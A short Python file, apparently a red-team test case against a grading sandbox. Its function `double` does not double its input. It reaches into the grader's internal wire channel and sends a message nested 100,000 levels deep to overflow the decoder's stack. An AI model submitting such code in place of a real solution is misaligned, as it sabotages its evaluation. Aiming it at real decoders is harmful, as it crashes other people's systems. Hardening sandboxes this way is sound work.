# family: the protocol
# success: a message 100 000 deep overflows the decoder's stack
# tiers: A B
import os
import struct
import sys

import msgspec

wire = sys.modules["grader.sandbox.worker.wire"]


def send(message):
    payload = message if isinstance(message, bytes) else msgspec.msgpack.encode(message)
    os.write(3, struct.pack("<I", len(payload)) + payload)


def double(x):
    head = b"\x82\xa4type\xa7replies\xa7replies\x91\x95\xa8returned\x00"
    send(head + b"\x93\xa1l\xa4list\x91" * 100_000)
    return None
